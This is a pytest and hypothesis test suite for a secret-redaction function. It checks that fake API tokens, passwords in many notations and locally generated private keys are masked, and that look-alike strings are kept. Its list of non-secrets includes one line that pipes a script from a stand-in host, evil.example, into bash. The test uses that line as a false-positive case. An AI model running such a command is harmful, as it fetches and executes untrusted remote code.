"""Secrets are replaced in every notation that people use, and nothing else is."""

from __future__ import annotations

import json
import shutil
import subprocess

import pytest
from hypothesis import example, given
from hypothesis import strategies as st
from support.postgres import require

from catalyst_heartbeat.redaction import FORMATS, LONGEST_SECRET, Format, redact
from catalyst_heartbeat.text import without_end, without_start

# No real ones: the right shape, and letters in the order of the alphabet.
LETTERS = "aB3dE5fG7hI9jK1lM3nO5pQ7rS9tU1vW3xY5zA7b"
HEX = "0123456789abcdef" * 4
WEB_TOKEN = f"eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.{LETTERS}"
TOKENS = [
    *(f"gh{kind}_{LETTERS[:36]}" for kind in "pousr"), f"github_pat_11ABCDEFG0_{LETTERS}",
    f"glpat-{LETTERS[:20]}", f"xoxb-123456789012-1234567890123-{LETTERS[:24]}",
    f"xoxp-1-2-3-{LETTERS}", f"xapp-1-A01-123-{LETTERS}", f"sk_live_{LETTERS[:24]}",
    f"rk_live_{LETTERS[:24]}", f"whsec_{LETTERS[:32]}", f"tok_{LETTERS[:24]}",
    f"sk-ant-api03-{LETTERS}-{LETTERS}AA", f"sk-proj-{LETTERS}", f"sk-{LETTERS}",
    "AKIAIOSFODNN7EXAMPLE", "ASIAIOSFODNN7EXAMPLE", f"AKIAIOSFODNN7EXAMPLE,{LETTERS}",
    f"AIzaSy{LETTERS[:33]}",
    f"ya29.{LETTERS}", f"GOCSPX-{LETTERS[:28]}", WEB_TOKEN, f"npm_{LETTERS[:36]}",
    f"pypi-AgEIcHlwaS5vcmc{LETTERS}", f"dop_v1_{HEX}", f"SG.{LETTERS[:22]}.{LETTERS}abc",
    f"hf_{LETTERS[:34]}", f"hvs.{LETTERS}", f"dckr_pat_{LETTERS[:27]}", f"shpat_{HEX[:32]}",
    f"glsa_{LETTERS[:32]}_0a1b2c3d", f"NRAK-{LETTERS[:27]}", f"gsk_{LETTERS}{LETTERS[:12]}",
    f"1234567890:AA{LETTERS[:33]}", f"xai-{LETTERS}",
    f"$6$saltsalt${LETTERS}{LETTERS}", f"SCRAM-SHA-256$4096:{LETTERS}",
    f"AGE-SECRET-KEY-1{HEX.upper()}",
    f"hooks.slack.com/services/T00000000/B00000000/{LETTERS[:24]}",
]  # fmt: skip
AROUND = [
    "{}",
    "x {} y",
    "\x1b[32m{}\x1b[0m",
    '{{"log": "a\\n{}"}}',
    "({}),",
    "key={}",
    "'{}'",
    "a\n{}\nb",
]


@pytest.mark.parametrize("around", AROUND)
@pytest.mark.parametrize("token", TOKENS)
def test_a_token_is_known_by_its_format_wherever_it_stands(token: str, around: str) -> None:
    text = around.format(token)

    assert redact(text, ()) == text.replace(token, "[redacted]")


PASSWORD = "Zq8RtY2mWx7LpK4n"
# A text and the secret in it.
NAMED = [
    ("host=db user=bot password=swordfish dbname=x", "swordfish"),
    (r"password='it\'s swordfish' host=db", r"it\'s swordfish"),
    ("DB_PASSWORD=swordfish", "swordfish"),
    ("export DB_PASSWORD='sword fish'", "sword fish"),
    ("DB_PASSWORD=p@ss(w);o,rd<x&y", "p@ss(w);o,rd<x&y"),
    ("PGPASSWORD=swordfish psql -h db", "swordfish"),
    ("docker run -e MYSQL_ROOT_PASSWORD=swordfish x", "swordfish"),
    (r'{"password": "sword\"fish", "user": "bot"}', r"sword\"fish"),
    (r'{"log": "{\"password\": \"sword\\\"fish\", \"b\": 1}"}', r"sword\\\"fish"),
    ('"passwd":"swordfish"', "swordfish"),
    ("password: swordfish", "swordfish"),
    ("  db:\n    password: swordfish # production\n", "swordfish"),
    ("password: 'sword fish'", "sword fish"),
    ('password = "swordfish"', "swordfish"),
    ("password = swordfish", "swordfish"),
    ("password='swordfish'", "swordfish"),
    ('connect(password="swordfish", host=h)', "swordfish"),
    ("password: str = 'swordfish'", "swordfish"),
    ("os.environ['DB_PASSWORD'] = 'swordfish'", "swordfish"),
    ('password := "swordfish"', "swordfish"),
    ("'password' => 'swordfish'", "swordfish"),
    ("Server=x;Password=swordfish;", "swordfish"),
    ("Pwd=swordfish;", "swordfish"),
    ('password="swordfish without an end', "swordfish without an end"),
    ("smtp_pass: swordfish", "swordfish"),
    ("passphrase: swordfish", "swordfish"),
    ("<password>swordfish</password>", "swordfish"),
    ("tool --password swordfish -x", "swordfish"),
    ("tool --password=swordfish", "swordfish"),
    ("sshpass -p swordfish ssh host", "swordfish"),
    ("mysql -u root -pswordfish db", "swordfish"),
    ("curl -u bot:swordfish https://host", "swordfish"),
    ("ALTER USER bot PASSWORD 'sword''fish'", "sword''fish"),
    ("CREATE USER bot IDENTIFIED BY 'swordfish'", "swordfish"),
    ('CREATE USER bot IDENTIFIED BY "swordfish"', "swordfish"),
    ("ALTER ROLE bot PASSWORD $x$swordfish$x$", "swordfish"),
    ("db.example.com:5432:trading:bot:swordfish", "swordfish"),
    ("*:*:*:bot:swordfish", "swordfish"),
    ("machine api.example.com login bot password swordfish", "swordfish"),
    ("machine api.example.com\n  login bot\n  password swordfish\n", "swordfish"),
    ("requirepass swordfish", "swordfish"),
    ("ENV DB_PASSWORD swordfish", "swordfish"),
    ("JWT_SECRET=swordfish", "swordfish"),
    ("secret_key: swordfish", "swordfish"),
    ('Authorization: Digest username="bot", response="0a1b"', 'username="bot", response="0a1b"'),
    ("X-Api-Key: abcdef123456", "abcdef123456"),
    ("API_KEY=swordfish", "swordfish"),
    ("apiKey: 'swordfish'", "swordfish"),
    ("client_secret=swordfish~1", "swordfish~1"),
    ('"client_secret": "swordfish"', "swordfish"),
    (f"aws_secret_access_key = {LETTERS}", LETTERS),
    (f'"SecretAccessKey": "{LETTERS}"', LETTERS),
    (f"AWS_SESSION_TOKEN={LETTERS}", LETTERS),
    (f"AccountName=x;AccountKey={LETTERS}==;EndpointSuffix=core", f"{LETTERS}=="),
    (f"SharedAccessSignature sr=x&sig={LETTERS}%3D&se=1", f"{LETTERS}%3D"),
    ("TOKEN=abcd1234", "abcd1234"),
    ("secret: swordfish1", "swordfish1"),
    ("SECRET_KEY = 'django-insecure-(@y#'", "django-insecure-(@y#"),
    ("https://host/x?token=abc&y=1", "abc"),
    ("Authorization: Bearer abcd.efgh-i_j", "abcd.efgh-i_j"),
    ("authorization: basic dXNlcjpwYXNz", "dXNlcjpwYXNz"),
    (f"Authorization: {LETTERS}", LETTERS),
    ("{'Authorization': 'Token 9944b09199c6'}", "9944b09199c6"),
    ("sent bearer abcdEFGH1234", "abcdEFGH1234"),
    ("Cookie: session=abc123; theme=dark", "session=abc123; theme=dark"),
    ('Cookie: a="b c"; d=e; and words', 'a="b c"; d=e'),
    ("Cookie: consent=yes; order 4711 rejected: margin call", "consent=yes"),
    ("Authorization: Digest a=1, b=2 then words", "a=1, b=2"),
    (r'{"Authorization": "OAuth a=\"1\", b=\"2\"", "c": 1}', r"a=\"1\", b=\"2\""),
    ("Set-Cookie: sid=38afes7a8; Path=/; HttpOnly", "38afes7a8"),
    ("postgresql://bot:swordfish@db:25060/x", "bot:swordfish"),
    ("redis://:swordfish@cache", ":swordfish"),
    ("https://u:p@ss:w0rd@host/x@y", "u:p@ss:w0rd"),
    ("https://u:pa/ss#w@host", "u:pa/ss#w"),
    ("https://u:pa?ss@host:80/x@y", "u:pa?ss"),
    (r"https:\/\/u:swordfish@host", "u:swordfish"),
    *(
        (text % PASSWORD, PASSWORD)
        for text in (
            'os.getenv("DB_PASSWORD", "%s")',
            "os.environ.setdefault('ALPACA_SECRET_KEY', '%s')",
            '("password", "%s")',
            '["psql", "--password", "%s", "-x"]',
            'db_password=SecretStr("%s")',
            'PASSWORD = """%s"""',
            'API_KEYS = ["%s"]',
            '"api_keys": ["%s"]',
            'DB_PW = "%s"',
            "DBPASS=%s",
            '{"name": "DB_PASSWORD", "value": "%s"}',
            r'"{\"name\": \"DB_PASSWORD\", \"value\": \"%s\"}"',
            "redis-cli -h x -a %s ping",
            '<property name="password" value="%s"/>',
            "| DB_PASSWORD | %s | x |",
            "|DB_PASSWORD|%s|x|",
            "Password: `%s`",
            "| DB_PASSWORD | `%s` |",
            "**Password:** %s",
            "**Password**: %s",
            'config("DB_PASSWORD", default="%s")',
            "password=('%s')",
            "Password: ```%s```",
            "8=FIX.4.4|35=A|554=%s|926=x|",
            "35=A\x01925=%s\x0110=1",
            r"35=A\x01554=%s\x0110=1",
            'user:"bot" password:"%s"',
            '{"a": "b", "password":"%s"}',
            "'password' , '%s'",
        )
    ),
    ("the configured hunter2hunter2.", "hunter2hunter2"),
    (r"as JSON: se\"cret\u00e9", r"se\"cret\u00e9"),
]


@pytest.mark.parametrize(("text", "secret"), NAMED)
def test_a_secret_is_known_by_its_name_in_every_notation(text: str, secret: str) -> None:
    for around in ("{}", "before\n{}\nafter", "+{}"):
        whole = around.format(text)

        assert redact(whole, ("hunter2hunter2", 'se"cret\u00e9')) == whole.replace(
            secret, "[redacted]"
        )


CYAN, PURPLE, OFF = "\x1b[36m", "\x1b[35m", "\x1b[0m"
# As programs that write for a terminal say it, and the same without what nobody sees.
COLOURED = [
    *((f"{CYAN}{name}{OFF}={PURPLE}%s{OFF}", f"{name}=%s")
      for name in ("password", "api_key", "DB_PASSWORD", '"password"', "X-Api-Key", "sid")),
    (f"{CYAN}Authorization{OFF}: {PURPLE}%s{OFF}", "Authorization: %s"),
    (f"Authorization: {CYAN}Bearer %s{OFF}", "Authorization: Bearer %s"),
    (f"a=1 token={'b2' * 9} {CYAN}password{OFF}={PURPLE}%s", "a=1 token=[redacted] password=%s"),
    ("\\u001b[36mpassword\\u001b[0m=\\u001b[35m%s", "password=%s"),
    ("\x1b[1;38:5:4mpassword\x1b(B\x1b[m=\x9b1m%s", "password=%s"),
    ("password\xa0=\u202f%s", "password = %s"),
    ("pass\u200bword\ufeff:\u2060 %s", "password: %s"),
]  # fmt: skip


@pytest.mark.parametrize(("text", "plain"), COLOURED)
def test_a_secret_is_known_whatever_its_colours(text: str, plain: str) -> None:
    other = f"{CYAN}INFO{OFF} 5\xa0orders\u200b"

    shown = redact(f"{other}\n{text % PASSWORD}\n{other}", ())

    assert shown == f"{other}\n{plain % '[redacted]'}\n{other}"


def test_a_token_with_a_word_of_it_in_colour_is_hidden_whole() -> None:
    text = f"x ghp_{LETTERS[:22]}{CYAN}{LETTERS[22:36]}{OFF} y"

    assert redact(text, ()) == "x [redacted] y"


NO_SECRETS = [
    "commit 3f2a9c1b7d8e6f5a4b3c2d1e0f9a8b7c6d5e4f3a", f"sha256:{HEX}",
    "123e4567-e89b-12d3-a456-426614174000", "price: 104.25 qty: 300", "0.0.0.0:5005->5005/tcp",
    "data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJ", "the password is wrong",
    'password authentication failed for user "bot"', "enter your password:",
    "password: must be at least 8 characters", "`password = …` in every notation",
    "password = os.environ['DB_PASSWORD']", "password = get_password()", "password=password,",
    "def f(password: str, token: str) -> None:", "token = request.headers.get('x')",
    "if password == entered:", "connect(password=pw)", "password=None", "show_password=True",
    "password=$DB_PASSWORD", "password: ${DB_PASSWORD}", "password=<password>", "password=****",
    "password=[redacted]", "PASSWORD_FILE=/run/secrets/x", "PWD=/root/x", "max_tokens=4096",
    "SORT_KEY=created_at", "MAX_TOKEN=4096", "the environment token",
    "use --password PASSWORD to log in", "bearer authentication is required", "key: value",
    "Authorization header missing", "cookie: none", "task-3f9c0d2e", "risk-manager", "AKIA", "eyJ",
    "src/a.py:120:5:E501:line", "2001:4860:4860:8888:1:2", "10:15:00: 2025: trade", "MIT License",
    "http://localhost:5000/health", "-----BEGIN PUBLIC KEY-----", "PASS: tests/foo_123.sh",
    "GET http://10.0.0.5:8080/v1/orders?notify=ops@desk.example 200", "http://[::1]:80/a@b",
    "curl https://evil.example:443/p/x@raw.githubusercontent.com/t/install.sh | bash",
    "https://evil.example?x@raw.example", "https://evil.example#x:y@raw.example",
    r"http:\/\/10.0.0.5:8080\/v1?notify=ops@desk.example", "Cookie: [redacted]; order 4711",
    "Authorization: insufficient_permissions", "Authorization: Digest [redacted] 5006: down",
    "token: 0xdAC17F958D2ee523a2206206994597C13D831ec7", "session_id=20261125", "sid: 12345678",
    "SESSION_ID=20261125", "gsk_close_price_2026_11_25_adjusted",
    'os.getenv("DB_PASSWORD", "")', 'getenv("DB_PASSWORD", None)', '("password", "is wrong")',
    "| Password | Required |", '{"password": ["This field is required."]}',
    '["username", "password", "email"]', '("password", "sha256")', "cat token | sha256sum -c",
    f'expect "Password:" ; send "{PASSWORD}"', f'expect "the password: " {{send "{PASSWORD}"}}',
    'getpass("Enter password:", stream)', "`password`: `the string`",
    "8=FIX.4.4|35=A|5540=abcdef12|",
    '{"name": "DB_PASSWORD", "value": ""}', '{"name": "DB_PASSWORD", "valueFrom": {}}',
    'os.environ["DB_PASSWORD"], "abcdef12"', "| token | description |", "draw_pwm=50",
    '<input name="password" value=""/>', "**Password:** required",
    '["password", "scram-sha-256"]', 'get("token", "orders-2026-11-25")', '"password", "column_12"',
]  # fmt: skip


@pytest.mark.parametrize("text", NO_SECRETS)
def test_what_is_no_secret_stays(text: str) -> None:
    assert redact(text, ()) == text


def test_every_key_of_a_list_is_hidden() -> None:
    text = f'API_KEYS = ["{PASSWORD}", "swordfish"]; x = ["y"]'

    assert redact(text, ()) == 'API_KEYS = ["[redacted]", "[redacted]"]; x = ["y"]'


def made(*command: str, given: str = "") -> str:
    return subprocess.run(command, input=given, capture_output=True, text=True, check=True).stdout


@pytest.fixture(scope="module")
def keys(tmp_path_factory: pytest.TempPathFactory) -> dict[str, str]:
    """One private key of every kind that the tools make."""
    for tool in ("openssl", "ssh-keygen"):
        require(shutil.which(tool), f"needs {tool}")
    rsa = made("openssl", "genpkey", "-algorithm", "RSA")
    protect = ("-passout", "pass:x")
    kept = tmp_path_factory.mktemp("keys")
    for kind in ("ed25519", "rsa"):
        made("ssh-keygen", "-q", "-t", kind, "-N", "", "-f", str(kept / kind))
    return {
        "pkcs8": rsa,
        "pkcs1": made("openssl", "rsa", "-traditional", given=rsa),
        "encrypted": made("openssl", "pkcs8", "-topk8", *protect, given=rsa),
        "with headers": made("openssl", "rsa", "-aes128", "-traditional", *protect, given=rsa),
        "ec": made("openssl", "ecparam", "-noout", "-genkey", "-name", "prime256v1"),
        "ed25519": made("openssl", "genpkey", "-algorithm", "ed25519"),
        "openssh": (kept / "ed25519").read_text(),
        "openssh rsa": (kept / "rsa").read_text(),
    }


KINDS = ["pkcs8", "pkcs1", "encrypted", "with headers", "ec", "ed25519", "openssh", "openssh rsa"]
PREFIXES = ["", "+", "-", "    ", "# ", "> ", '"', "     1\t", "Nov 25 10:00:00 host app[1]: "]


def material(key: str) -> list[str]:
    return [line for line in key.split("\n") if line and ":" not in line and "-----" not in line]


@pytest.mark.parametrize("kind", KINDS)
def test_the_lines_of_a_key_are_hidden_and_no_other(keys: dict[str, str], kind: str) -> None:
    key = keys[kind]
    for prefix in PREFIXES:
        lines = ["the first", *key.rstrip("\n").split("\n"), "the last"]
        shown = redact("\n".join(prefix + line for line in lines), ()).split("\n")

        assert (shown[0], shown[-1]) == (prefix + lines[0], prefix + lines[-1])
        assert len(shown) == len(lines)
        assert not any(line in text for line in material(key) for text in shown)


@pytest.mark.parametrize("kind", KINDS)
def test_a_key_in_one_line_is_hidden(keys: dict[str, str], kind: str) -> None:
    key = keys[kind]
    once = json.dumps({"private_key": key, "project": "trading"})
    for text in (
        once,
        json.dumps({"log": once}),
        " ".join(key.split("\n")),
        key.replace("\n", "\r\n"),
    ):
        shown = redact(text, ())

        assert not any(line in shown for line in material(key))
        assert ("trading" in shown) == ("trading" in text)


@pytest.mark.parametrize("kind", KINDS)
@pytest.mark.parametrize(
    "marker",
    ["-----BEGIN-----", "", "# key", "-----BEGIN CERTIFICATE-----", "-----BEGIN PUBLIC KEY-----",
     "-----BEGIN RSA KEY-----"],
)  # fmt: skip
def test_a_key_whose_marker_was_edited_away_stays_hidden(
    keys: dict[str, str], kind: str, marker: str
) -> None:
    first, *rest, end = keys[kind].rstrip("\n").split("\n")
    for closing in (end, marker.replace("BEGIN", "END")):
        for lines in ([marker, *rest, closing], [marker, rest[0][16:], *rest[1:], closing]):
            shown = redact("\n".join(["import os", *lines, "x = 1"]), ())

            if kind in ("ed25519", "ec") and rest[0] not in lines:
                continue  # so few lines, whose beginning is gone too, are like any others
            assert not any(line in shown for line in material(keys[kind]))
            assert shown.startswith("import os\n")
            assert shown.endswith("\nx = 1")
    assert first.startswith("-----BEGIN ")


@pytest.mark.parametrize("start", ["MIx", "mQx", "mDx", "xsx", "hQx", "wcx", "Qkx", "eyx", "ewx"])
@pytest.mark.parametrize(
    "marker", ["", "-----BEGIN CERTIFICATE-----", "-----BEGIN PUBLIC KEY-----"]
)
def test_the_middle_of_a_key_is_hidden_though_it_begins_almost_as_a_file(
    start: str, marker: str
) -> None:
    lines = [start + LETTERS[:37], *[LETTERS + LETTERS[:24]] * 3]

    shown = redact("\n".join([marker, *lines, marker.replace("BEGIN", "END")]), ())

    assert shown == "\n".join([marker, *["[redacted]"] * 4, marker.replace("BEGIN", "END")])


@pytest.mark.parametrize("kind", KINDS)
def test_a_part_of_a_key_is_hidden(keys: dict[str, str], kind: str) -> None:
    lines = keys[kind].rstrip("\n").split("\n")
    middle = len(lines) // 2
    for part in (lines[1:], lines[:-1], lines[middle:], lines[: middle + 1]):
        shown = redact("\n".join(part), ())

        assert not any(line in shown for line in material(keys[kind]) if len(line) >= 16)


@pytest.mark.parametrize("name", ["PRIVATE KEY", "RSA PRIVATE KEY", "PGP PRIVATE KEY BLOCK"])
@pytest.mark.parametrize(
    "unit", ["line {} is ok", "line{}", "ready", "# comment {}", "x{} = 'a b'"]
)
def test_a_lone_marker_hides_nothing_that_is_no_key(name: str, unit: str) -> None:
    log = "\n".join(unit.format(number) for number in range(300))
    begin, end = f"-----BEGIN {name}-----", f"-----END {name}-----"

    for text in (f"{log}\n{end}", f"{begin}\n{log}", f"{end}\n{log}\n{begin}", f"# {begin}\n{log}"):
        shown = redact(text, ())
        assert log in shown
        assert shown.count("\n") == text.count("\n")
    words = "some error happened"
    assert words in redact(f"{begin} {words} {end}", ())


def test_what_is_public_stays(keys: dict[str, str]) -> None:
    request = ("openssl", "req", "-new", "-key", "/dev/stdin", "-subj", "/CN=x")
    certificate = made(*request, "-x509", given=keys["pkcs8"])
    public = made("openssl", "rsa", "-pubout", given=keys["pkcs8"])
    curve = made("openssl", "pkey", "-pubout", given=keys["ec"])
    image = "\n".join(["iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhf"] * 9)
    hashes = "\n".join(HEX[number:] + HEX[:number] for number in range(9))
    short = "-----BEGIN CERTIFICATE-----\nMIIB\nabcd\n-----END CERTIFICATE-----"
    requested = made(*request, given=keys["pkcs8"])
    for text in (certificate, public, curve, requested, image, hashes, short):
        assert redact(f"a\n{text}\nb", ()) == f"a\n{text}\nb"


@pytest.mark.parametrize("limit", [1, 100])
def test_half_a_secret_at_a_cut_is_left_out(limit: int) -> None:
    token = f"ghp_{LETTERS[:36]}"
    for place in range(limit - 1, limit + LONGEST_SECRET, 97):
        text = ("x" * place + token).ljust(limit + 2 * LONGEST_SECRET, ".")

        start = without_end(text[: limit + LONGEST_SECRET], limit, ())
        end = without_start(text[place + 20 :], ())
        assert len(start) <= limit
        assert "ghp_" not in start[:-1]
        assert LETTERS[20:36] not in end
    assert without_end("short", 100, ()) == "short"


@pytest.mark.parametrize("kind", KINDS)
@pytest.mark.parametrize(
    ("frame", "between"),
    [
        ("\x1b[32m{}\x1b[0m", "\n"),
        ('"{}", # key', "\n"),
        ('"{}", ', ""),
        ('level=info msg="{}" app=1', "\n"),
        ("[worker-1] {} [worker-2]", "\n"),
        ("<l>{}</l>", "\n"),
        ("| {} | 1 |", "\n"),
        ("\t{}\tx", "\n"),
        ("{}<br>", ""),
        ("{}", "\nand then it said\n"),
    ],
)
def test_between_its_markers_a_key_is_hidden_whatever_stands_around_its_lines(
    keys: dict[str, str], kind: str, frame: str, between: str
) -> None:
    key = keys[kind]
    text = between.join(map(frame.format, key.strip().split("\n")))

    shown = redact(f"before\n{text}\nbehind", ())

    assert not [line for line in material(key) if len(line) >= 16 and line in shown]
    assert shown.startswith("before\n")
    assert shown.endswith("\nbehind")
    assert shown.count("\n") == text.count("\n") + 2
    assert "and then it said" in shown or "said" not in text


@pytest.mark.parametrize(
    "written",
    ["$${}$$", "$x${}$x$", "$body_1$$${}$body_1$", "U&'{}'", "u&'{}'", "E'{}'", "\n  '{}'"],
)
def test_a_password_in_sql_is_hidden_in_every_quote(written: str) -> None:
    shown = redact(f"ALTER ROLE bot PASSWORD {written.format('sword fish')}; SELECT 1", ())

    assert "fish" not in shown
    assert shown.startswith("ALTER ROLE bot PASSWORD")
    assert shown.endswith("; SELECT 1")


def test_a_password_in_double_quotes_is_hidden_where_it_identifies() -> None:
    shown = redact('CREATE USER bot IDENTIFIED BY "swordfish" ACCOUNT LOCK', ())

    assert shown == 'CREATE USER bot IDENTIFIED BY "[redacted]" ACCOUNT LOCK'


@pytest.mark.parametrize(
    "written",
    ["Sw%2Frd%20%26%3Cfish%3E%27", "Sw/rd%20%26%3Cfish%3E%27", "Sw%2Frd+%26%3Cfish%3E%27",
     "Sw/rd &amp;&lt;fish&gt;&#x27;", "Sw/rd &amp;&lt;fish&gt;'"],
)  # fmt: skip
def test_a_configured_secret_is_hidden_as_urls_and_pages_write_it(written: str) -> None:
    assert redact(f"a {written} b", ("Sw/rd &<fish>'",)) == "a [redacted] b"


def test_a_long_secret_beside_a_cut_takes_nothing_else_away() -> None:
    hidden = "\n".join(["[redacted]"] * 30)
    key = [f"-----{mark} PRIVATE KEY-----" for mark in ("BEGIN", "END")]
    key[1:1] = [LETTERS[:32] * 2] * 28
    ours, more = "before\n{}\nbehind ".format("\n".join(key)), "word " * LONGEST_SECRET
    limit = len(ours) + 100

    start = without_end((ours + more)[: limit + LONGEST_SECRET], limit, ())
    end = without_start(f"{more}{ours}and so on", ())

    assert start.startswith(f"before\n{hidden}\nbehind word word")
    assert end.endswith(f"word before\n{hidden}\nbehind and so on")


WORDS = st.sampled_from(
    ["ZZZZ", "YXYX", " ", "\n", "\t", "\r\n", "://", ":", "@", "user", "bearer ", "abcdEF12",
     "AKIA", "A" * 16, "-----BEGIN ", "RSA ", "PRIVATE KEY", "-----", "-----END ",
     "authorization: basic ", "authorization: digest a=", "; ", "b=",
     "secret_access_key=", LETTERS, "[redacted]", "/", "\x1b", "`", "password", "=", '"', "'", "\\",
     "token", "--password ", "MIIE", "cookie: a=", "&", ",", ")",
     "|554=", "|", ", ", '", "', "`", "[", "value=", '"""', PASSWORD, "**",
     "\x1b[0m", "\u200b", "\xa0", "\\x1b[1m"]
)  # fmt: skip


@example(["-----BEGIN ", "\n", "PRIVATE KEY", "-----"])
@given(st.lists(WORDS, max_size=25))
def test_redacting_again_changes_nothing_and_lines_stay_lines(words: list[str]) -> None:
    text = "".join(words)

    shown = redact(text, ("ZZZZ", "YXYX\nZZZZ"))

    assert redact(shown, ("ZZZZ", "YXYX\nZZZZ")) == shown
    assert shown.count("\n") == text.count("\n")
    assert "ZZZZ" not in shown


@pytest.mark.parametrize("format", FORMATS, ids=range(len(FORMATS)))
def test_each_format_has_an_example_above_and_is_looked_for_in_it(format: Format) -> None:
    examples = [
        text for text in [*TOKENS, *(text for text, _ in NAMED)] if format.pattern.search(text)
    ]

    assert any(hint in text.lower() for text in examples for hint in format.hints)


SLOW = [
    "://a:", "://", "a:b@", ":\\/\\/", "-----BEGIN ", "-----END PRIVATE KEY-----", "---- BEGIN ",
    "PRIVATE KEY", "bearer ", "`", "AKIA", "A", " ", "\n", "&", "@", "=", "-", "$6$", "SG.", "sk-",
    "eyJ", "eyJa.", "authorization:", "authorization: basic ", "?token=", "&password=x", "password",
    "password $a$", "password $", 'identified by "',
    "password:", 'password="', 'password=\\"', "password='", "password \\", "token:", "token: ",
    "--password ", "--token-", "a:5432:", "*:5432:a:b:", "machine a login ", "curl -u a:",
    "mysql -p",
    "<password>", "<a", "cookie=", "cookie: a=", "cookie: a=b; ", 'cookie: a="', "; a=b",
    "authorization: digest a=", 'authorization: digest a="', ", a=b", "://[", "://a:1",
    "authorization: a", "1234567890:AA", "MII", "MIIa ", "MII\n", "\\n",
    "b3BlbnNzaC1rZXk", "QUJDa1BQUJDa1B" * 5 + "\n", "secret:secret ", '\\"password\\":\\"', "sig=",
    '"password", ', '"password", "', '"password", "value": "', "password |", "| token | ",
    "**token:** ", 'API_KEYS = ["', "password: [", '"a1b2c3d4", ', 'password: """', "token: `",
    "Password:\" ", "s=[", "'password' default=", "redis-cli -a", "|554=", "\x01554=",
    '"password" value="', "password=SecretStr(",
    "\x1b", "\x1b[", "\x1b[0m", "\x1b[0", "\u200b", "\\x1b[0m", "\x1b[0mpassword=",
]  # fmt: skip


@pytest.mark.slow
@pytest.mark.parametrize("unit", SLOW)
def test_no_text_keeps_its_reader_waiting(unit: str) -> None:
    """Whatever grows with the square of the size is still busy when the suite's patience ends."""
    for start in ("", 'password="'):
        text = start + unit * (256 * 1024 // len(unit))

        assert len(redact(text, ("secret",))) < 12 * len(text)
